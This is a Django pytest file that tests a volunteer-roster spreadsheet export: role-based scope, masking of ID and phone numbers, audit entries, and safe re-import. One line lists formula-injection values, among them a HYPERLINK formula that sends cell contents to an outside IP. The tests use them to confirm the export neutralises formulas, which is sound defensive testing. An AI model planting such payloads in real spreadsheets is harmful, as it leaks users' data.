"""The roster export: scope, masking, formula escaping, audit, and re-import without stacked quotes."""

import io
from datetime import date

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse
from openpyxl import load_workbook

from stations import idnumbers
from stations.models import AuditEntry
from volunteers.models import Volunteer
from volunteers.tests.factories import VolunteerFactory, VolunteerRoleFactory

# stations.audit takes an advisory lock (one more query) on PostgreSQL.
PG_AUDIT_LOCK = int(connection.vendor == "postgresql")
FULL_ID = "11010519491231002X"
HOSTILE = ['=HYPERLINK("http://10.0.0.9/?"&A1,"x")', "+1", "-1", "@SUM(1+1)"]


def export(client, **params):
    return client.get(reverse("stations:export-download", args=["volunteer-roster"]), params)


def cells(content):
    workbook = load_workbook(io.BytesIO(content))
    sheet = workbook["志愿者名册"]
    return workbook, [[c.value for c in r] for r in sheet.iter_rows()]


@pytest.fixture
def roster(world):
    person = VolunteerFactory(
        workstation=world.a.station,
        name="王守法",
        id_number=FULL_ID,
        id_hash=idnumbers.lookup_hash(FULL_ID),
        gender="female",
        birth_date=date(1949, 12, 31),
        mobile="13812345678",
    )
    VolunteerRoleFactory(volunteer=person, role="mediator")
    VolunteerFactory(workstation=world.b.station, name="乙县人员")
    VolunteerFactory(workstation=world.z.station, name="外省人员")
    return person


def test_county_officer_exports_the_county_roster_masked(world, client_as, roster):
    response = export(client_as(world.user("county")))
    assert response.status_code == 200
    _workbook, rows = cells(response.content)
    names = [r[1] for r in rows[1:]]
    assert names == ["王守法"]
    flat = "".join(str(v) for r in rows for v in r)
    assert FULL_ID not in flat and "13812345678" not in flat
    assert "110105********002X" in flat and "138****5678" in flat
    entry = AuditEntry.objects.get(action="export.download")
    assert entry.changes["rows"] == 1 and entry.changes["report"] == "volunteer-roster"
    assert b"13812345678" not in response.content


def test_province_sees_both_cities_but_not_the_other_province(world, client_as, roster):
    _wb, rows = cells(export(client_as(world.user("prov"))).content)
    assert sorted(r[1] for r in rows[1:]) == ["乙县人员", "王守法"]


def test_station_user_exports_full_ids_and_the_roles(world, client_as, roster):
    _wb, rows = cells(export(client_as(world.user("staff"))).content)
    assert rows[1][3] == FULL_ID and rows[1][5] == "13812345678" and rows[1][14] == "矛盾调解员"


def test_export_filters_follow_the_list(world, client_as, roster):
    VolunteerFactory(workstation=world.a.station, name="已退出者", status="left")
    _wb, rows = cells(export(client_as(world.user("staff")), status="left").content)
    assert [r[1] for r in rows[1:]] == ["已退出者"]


@pytest.mark.parametrize("rows_count", [50, 500])
def test_export_query_count_is_pinned(world, client_as, django_assert_max_num_queries, rows_count):
    for n in range(rows_count // 50):
        Volunteer.objects.bulk_create(
            [
                Volunteer(
                    workstation=world.a.station,
                    name=f"批{n}-{i}",
                    gender="male",
                    member_type="other",
                    joined_on=date(2024, 1, 1),
                )
                for i in range(50)
            ]
        )
    client = client_as(world.user("county"))
    with django_assert_max_num_queries(12 + PG_AUDIT_LOCK):
        response = export(client)
    assert response.status_code == 200


def test_formula_cells_are_exported_as_text_and_reimport_does_not_stack_quotes(world, client_as):
    for n, name in enumerate(HOSTILE):
        number = idnumbers.make("230102", date(1950, 1, 1), n * 2 + 1)
        VolunteerFactory(
            workstation=world.a.station,
            name=name,
            skills=name,
            id_number=number,
            id_hash=idnumbers.lookup_hash(number),
            birth_date=date(1950, 1, 1),
        )
    client = client_as(world.user("staff"))
    response = export(client)
    workbook, rows = cells(response.content)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    assert sorted(r[1] for r in rows[1:]) == sorted(HOSTILE)
    preview = client.post(reverse("volunteers:import"), {"file": SimpleUploadedFile("roster.xlsx", response.content)})
    plan = preview.context["plan"]
    assert plan.is_valid, plan.errors
    assert plan.unchanged == len(HOSTILE) and not plan.updates and not plan.creates
    client.post(reverse("volunteers:import-confirm"), {"token": preview.context["token"]})
    assert sorted(Volunteer.objects.values_list("name", flat=True)) == sorted(HOSTILE)
    _wb, again = cells(export(client).content)
    assert sorted(r[1] for r in again[1:]) == sorted(HOSTILE)


def test_export_follows_the_contract_period_and_org(world, client_as, roster):
    VolunteerFactory(workstation=world.a.station, name="后来者", joined_on=date(2026, 1, 2))
    client = client_as(world.user("prov"))
    _wb, rows = cells(export(client, period="2025", org=world.a.county.pk).content)
    assert [r[1] for r in rows[1:]] == ["王守法"]
    assert export(client, org=world.z.county.pk).status_code == 404


@pytest.mark.parametrize("role", ["county", "city", "prov"])
def test_roster_above_the_station_holds_no_full_id_phone_or_birth_date(world, client_as, roster, role):
    """Issue 14 §5: the file is searched for the real values, not only the cells the test expects."""
    response = export(client_as(world.user(role)))
    assert response.status_code == 200
    _workbook, rows = cells(response.content)
    assert "王守法" in [r[1] for r in rows[1:]]
    everything = load_workbook(io.BytesIO(response.content))
    text = " ".join(
        v.strftime("%Y-%m-%d") if hasattr(v, "strftime") else str(v)
        for sheet in everything.worksheets
        for row in sheet.iter_rows(values_only=True)
        for v in row
        if v is not None
    )
    for secret in (FULL_ID, "13812345678", "1949-12-31", "19491231"):
        assert secret not in text, f"{secret} in the roster downloaded by {role}"
        assert secret.encode() not in response.content
